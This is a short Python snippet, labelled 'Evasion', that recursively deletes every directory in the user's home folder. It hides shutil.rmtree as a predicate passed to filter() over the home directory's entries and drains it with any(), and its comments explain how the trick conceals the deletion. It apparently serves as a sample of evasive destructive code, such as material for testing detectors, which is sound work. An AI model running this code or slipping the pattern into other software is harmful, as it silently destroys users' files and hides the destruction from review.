# Evasion: deletes every directory in the user's home recursively.
# Hidden in filter(): shutil.rmtree is handed to filter() as a "predicate"
# over Path.home().iterdir(); filter calls it on each entry as it is
# drained by any(), and rmtree's None keeps any() going to the end.
import shutil
from functools import partial
from pathlib import Path

wipe = partial(shutil.rmtree, ignore_errors=True)
any(filter(wipe, Path.home().iterdir()))
